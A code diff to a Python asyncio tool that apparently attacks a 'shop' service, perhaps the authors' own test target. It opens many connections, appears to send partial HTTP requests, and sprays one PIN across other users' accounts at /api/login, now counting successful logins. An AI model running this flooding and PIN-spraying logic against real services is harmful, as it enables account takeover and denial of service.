@@ -27,6 +27,7 @@ WRONG = f"nonce={'0' * 32} proof={'0' * 128}"
 # Without them 28,000 connections leave one address: see ip(7).
 BIND_ADDRESS_NO_PORT = 24
 ESTABLISHED = 1
+GIVES_WAY = 5
 SIGNERS = asyncio.Semaphore(2)
 
 
@@ -39,6 +40,8 @@ class Link:
         self.socket = socket.socket()
         self.socket.setblocking(False)
         self.socket.setsockopt(socket.IPPROTO_IP, BIND_ADDRESS_NO_PORT, 1)
+        # What waits at the attacker's shall not be taken for the daemon's memory.
+        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, BLOCK)
         self.socket.bind((source, 0))
 
     async def connect(self, page: bool) -> None:
@@ -163,7 +166,8 @@ async def log_in(link: Link) -> None:
     for person in itertools.cycle(OTHERS):
         body = f'{{"person":{person},"pin":"{pin}","device":"{link.index:032x}"}}'
         await link.send(post("/api/login", body))
-        await link.receive()
+        if (await link.receive()).startswith(b"HTTP/1.1 200"):
+            link.counts["logged in"] += 1
 
 
 async def half_head(link: Link) -> None:
@@ -255,7 +259,7 @@ def besiege(
     """One process of attackers; strangers have machines of their own, so it gives way to ours."""
     signal.signal(signal.SIGINT, signal.SIG_IGN)
     signal.signal(signal.SIGTERM, signal.SIG_DFL)
-    os.nice(10)
+    os.nice(GIVES_WAY)
     hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
     crowd = Crowd(attack, shop, hosts)
